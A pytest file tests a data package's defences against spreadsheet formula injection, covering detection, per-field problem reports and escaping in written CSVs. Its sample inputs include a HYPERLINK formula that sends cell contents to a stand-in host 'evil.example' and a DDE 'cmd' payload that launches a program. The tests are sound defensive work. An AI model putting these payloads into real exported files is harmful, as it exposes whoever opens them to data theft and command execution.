"""Spreadsheet formulas: refused in typed text, escaped in every CSV written, numbers untouched."""

from __future__ import annotations

import pandas as pd
import pytest

from nacarbon.data.csvsafe import formula_problems, is_formula, spreadsheet_safe
from nacarbon.data.io import write_csv_atomic


@pytest.mark.parametrize("value, formula", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', True), ("@SUM(A1:A9)", True), ("+cmd|' /C calc'!A0", True),
    ("-2+3", True), ("\t=1", True), ("-2.5", False), ("+3", False), ("1e-3", False), ("Walnut shell", False),
    ("a=b", False), ("", False), (-2.5, False), (None, False)])
def test_what_a_spreadsheet_would_run(value, formula):
    assert is_formula(value) is formula


def test_problems_name_row_and_text_column_only():
    frame = pd.DataFrame({"source": ["a lab", "=1+1"], "note": ["@x", "ok"], "ice_pct": ["-2+3", "80"]})
    found = [(p["row"], p["field"]) for p in formula_problems(frame, ["source", "note"])]
    assert found == [(2, "source"), (1, "note")]


def test_every_written_csv_escapes_text_formulas_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"sample_id": ["=1+1", "S2"], "note": ["-2+3", "-2.5"], "d002_nm": [-2.5, 0.37]})
    text = write_csv_atomic(frame, tmp_path / "out.csv").read_text()
    assert text.splitlines()[1:] == ["'=1+1,'-2+3,-2.5", "S2,-2.5,0.37"]
    assert frame["sample_id"].iloc[0] == "=1+1"   # the caller's frame is left as it was
    assert spreadsheet_safe(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]
